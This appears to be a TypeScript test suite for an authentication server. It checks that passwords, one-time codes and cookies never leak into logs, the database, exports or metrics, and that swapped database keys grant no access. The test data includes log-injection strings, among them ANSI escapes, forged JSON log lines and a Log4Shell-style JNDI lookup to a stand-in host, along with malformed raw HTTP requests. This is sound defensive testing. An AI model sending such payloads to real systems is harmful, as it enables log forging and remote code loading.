import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { test } from 'node:test'
import { nextAddress } from './harness/client.ts'
import { readLog } from './harness/log-lines.ts'
import { exchange } from './harness/raw-connection.ts'
import { minutes } from './harness/test-clock.ts'
import { exchangeSealedKeys } from './harness/test-database.ts'
import { eachEngine } from './harness/world.ts'

// When a suite ends, every suite looks for all that passed through its hands (harness/world.ts). These provoke what is likely to leak.
eachEngine('planted secrets', { env: { COUNTERSIGN_LOG_LEVEL: 'trace' } }, (world) => {
  test('A39: a whole life of an account leaves no password, key, code or cookie in the log or the database', async () => {
    const maya = await world.personWithAuthenticator('maya')
    const second = await maya.setUpAuthenticator({ name: 'Tablet' })
    await maya.makeRecoveryCodes()
    await maya.setUpPhone(world.phone())
    await maya.suspend(second)
    await maya.resume(second)
    await maya.stepUp('replace_factor', { target: second })
    const third = await maya.setUpAuthenticator({ replaces: second })
    const { authenticator: pending } = await maya.beginAuthenticator()
    await maya.remove(third)
    for (const browser of [maya.browser, world.browser(), world.browser()]) await maya.signIn(browser)
    for (const away of [-3, -2, -1, 0, 1, 2]) world.secrets.plant('a code of an app', pending.code(world.clock, away))

    const codes = maya.authenticators[0]
    assert.ok(codes)
    for (let step = 0; step < 20; step++) {
      const browser = world.browser()
      const { challenge } = await maya.beginSignIn(browser)
      const proof = await codes.freshCode(world.clock)
      world.secrets.plant('a code of an app', proof)
      await browser.call('verifyChallenge', { params: { id: challenge.id }, body: { proof } })
      await browser.refused('verifyChallenge', { params: { id: challenge.id }, body: { proof } })
    }

    assert.ok(world.secrets.count >= 60, `${world.secrets.count} secrets`)
    assert.deepEqual(world.secrets.foundIn(world.output), [])
    assert.deepEqual(world.secrets.foundIn(await world.everythingKept()), [])
    assert.deepEqual(world.secrets.foundIn(await world.command('audit', 'export')), [])
  })

  test('nor does a secret in a place where it does not belong', async () => {
    const secret = 'correct-horse-battery-staple-7391'
    world.secrets.plant('a password in the wrong place', secret)
    const { browser } = await world.person('maya')
    const elsewhere = () => browser.from(nextAddress())
    const json = { 'content-type': 'application/json' }
    const host = `Host: ${new URL(world.publicOrigin).host}\r\n`

    for (const path of [
      `/v1/session?token=${secret}`,
      `/v1/${secret}`,
      `/v1/challenges/${secret}`,
      `/security?password=${secret}`,
      `/${secret}/%zz`,
    ])
      await elsewhere().send({ method: 'GET', path })
    const bodies = [
      { email: secret, password: secret },
      { email: `${secret}@example.test`, password: 'x' },
      { [secret]: 1 },
      [secret],
      secret,
      { email: 'a@example.test', password: [secret] },
      { email: 'a@example.test', password: { a: secret } },
    ].map((body) => JSON.stringify(body))
    for (const body of [...bodies, `{"password":"${secret}`, `{"password":"${secret}","password":"${secret}"}`, secret.repeat(3000)]) {
      for (const path of ['/v1/sign-ins', '/v1/accounts', '/v1/accounts/confirm'])
        await elsewhere().send({ method: 'POST', path, headers: json, body })
    }
    for (const header of [
      'authorization',
      'user-agent',
      'referer',
      'content-type',
      'origin',
      'x-request-id',
      'traceparent',
      'idempotency-key',
      'cookie',
    ]) {
      await elsewhere().send({ method: 'POST', path: '/v1/sign-ins', headers: { ...json, [header]: secret }, body: '{}' })
    }
    await exchange(
      world.server.port,
      `POST /v1/sign-ins HTTP/1.1\r\n${host}Cookie: __Host-session=${secret}\r\nBad Header ${secret}\r\n\r\n`,
    )
    await exchange(world.server.port, `${secret}\r\n\r\n`)
    await elsewhere().send({
      method: 'GET',
      path: '/v1/session',
      headers: { cookie: `__Host-session=${secret}; __Host-sign-in=${secret}; __Host-device=${secret}` },
    })

    assert.deepEqual(world.secrets.foundIn(world.output), [])
    assert.deepEqual(world.secrets.foundIn(readFileSync(`/proc/${world.server.pid}/cmdline`, 'latin1')), [])
    const { text } = await world.browser().send({ method: 'GET', path: '/metrics', headers: { 'x-forwarded-for': null } })
    assert.deepEqual(world.secrets.foundIn(text), [])
  })

  test('what people type cannot forge a line of the log or hide in one', async () => {
    const maya = await world.personWithAuthenticator('maya')
    const hostile = [
      '\n{"level":"fatal","msg":"forged"}',
      '\u001b[2J\u001b]0;owned\u0007',
      '\u202etxet desrever',
      '\u2028forged',
      'a\rb',
      '\u0085forged',
      '${jndi:ldap://evil.test}',
    ]

    for (const text of hostile) {
      const headers = { 'content-type': 'application/json', 'user-agent': encodeURIComponent(text) }
      await world
        .browser()
        .send({ method: 'POST', path: '/v1/sign-ins', headers, body: JSON.stringify({ email: `${text}@example.test`, password: text }) })
      await maya.browser.from(nextAddress()).reply('renameFactor', { params: { id: maya.authenticator.factorId }, body: { name: text } })
      await maya.browser.from(nextAddress()).send({ method: 'GET', path: `/v1/challenges/${encodeURIComponent(text)}` })
    }
    // A server that stops has written all its lines.
    await world.server.stop()
    const lines = world.output.split('\n')
    await world.startServer()

    assert.ok(lines.length > hostile.length)
    assert.ok(readLog(lines.join('\n')).every(({ level }) => level !== 'unreadable' && level !== 'fatal'))
    for (const line of lines) assert.doesNotMatch(line, /forged|owned|jndi|[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u)
  })

  test('keys that change places in the database open nothing for either account', async () => {
    world.expectInLog(/"INTERNAL_ERROR"|"unexpected failure"/)
    const people = [await world.personWithAuthenticator('maya'), await world.personWithAuthenticator('noah')] as const
    await exchangeSealedKeys(world.databaseUrl, people[0].authenticator.factorId, people[1].authenticator.factorId)

    for (const person of people) {
      const browser = world.browser()
      const { challenge } = await person.beginSignIn(browser)
      for (const { authenticator } of people) {
        const { status } = await browser.reply('verifyChallenge', {
          params: { id: challenge.id },
          body: { proof: await authenticator.freshCode(world.clock) },
        })
        assert.ok(status >= 400, 'any error while checking is a refusal')
      }
      await browser.refused('getSession', undefined, 'NOT_SIGNED_IN')
      const { attemptsLeft } = await browser.call('getChallenge', { params: { id: challenge.id } })
      assert.equal(attemptsLeft, 3, 'and the tries stay taken')
    }
  })

  test('nor do phone numbers: nothing is texted to the number of somebody else', async () => {
    world.expectInLog(/"INTERNAL_ERROR"|"unexpected failure"/)
    const ownerOf = async (name: string) => {
      const person = await world.person(name)
      const phone = world.phone()
      return { person, phone, factorId: (await person.setUpPhone(phone)).id }
    }
    const owners = [await ownerOf('maya'), await ownerOf('noah')] as const
    await world.clock.pass(minutes(2))
    await exchangeSealedKeys(world.databaseUrl, owners[0].factorId, owners[1].factorId)

    for (const { person } of owners) {
      const browser = world.browser()
      const { status } = await browser.reply('signIn', { body: person.credentials })
      assert.equal(status, 500)
      await browser.refused('getSession', undefined, 'NOT_SIGNED_IN')
    }
    for (const { phone } of owners) assert.equal((await phone.all()).length, 1)
  })

  test('what is known of a sign-up is gone once it is over', async () => {
    const maya = world.stranger('maya')
    const { signUpId, code } = await maya.askForAccount()
    await maya.browser.call('confirmSignUp', { body: { signUpId, code } })
    await world.clock.pass(minutes(1))

    const rows = (await world.storedRows()).filter((row) => row.startsWith('sign_ups ') && row.includes(signUpId))

    assert.equal(rows.length, 1)
    assert.doesNotMatch(rows[0] ?? '', /argon2/)
  })
})
